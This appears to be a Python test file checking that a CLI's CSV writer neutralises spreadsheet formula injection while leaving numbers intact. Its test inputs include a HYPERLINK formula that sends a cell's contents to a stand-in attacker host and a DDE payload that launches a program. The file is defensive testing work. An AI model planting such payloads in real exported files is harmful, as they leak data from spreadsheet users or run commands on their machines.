"""No cell of a CSV of ours runs in a spreadsheet, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cli.csv_cells import RUNS, cell, csv_text


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example?x="&A1,"Click")',
        "+1+1",
        "-1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\0=1+1",
        "\ufeff=1+1",
        "＝1+1",
        "-",
        "+",
        "--5",
        "-5\n",
    ],
)
def test_what_would_run_is_made_text(text: str) -> None:
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (None, ""),
        (5, "5"),
        (-5, "-5"),
        (Decimal("-4.41"), "-4.41"),
        (-1e-09, "-1e-09"),
        ("-0.5", "-0.5"),
        ("BRK.B", "BRK.B"),
        ("a=b", "a=b"),
        ("", ""),
        ("above the pivot - held", "above the pivot - held"),
    ],
)
def test_everything_else_stands_as_it_is(value: object, shown: str) -> None:
    assert cell(value) == shown


@given(st.lists(st.lists(st.text(alphabet=st.characters(codec="utf-8")), min_size=2, max_size=2), max_size=5))
def test_a_file_reads_back_with_no_cell_that_runs(rows: list[list[str]]) -> None:
    read = list(csv.reader(io.StringIO(csv_text(["=symbol", "text"], rows), newline="")))
    assert read[0] == ["'=symbol", "text"]
    for wrote, found in zip(rows, read[1:], strict=True):
        assert [text.removeprefix("'") for text in found] == [text.removeprefix("'") for text in wrote]
        for text in found:
            assert not text.startswith(RUNS) or float(text) is not None
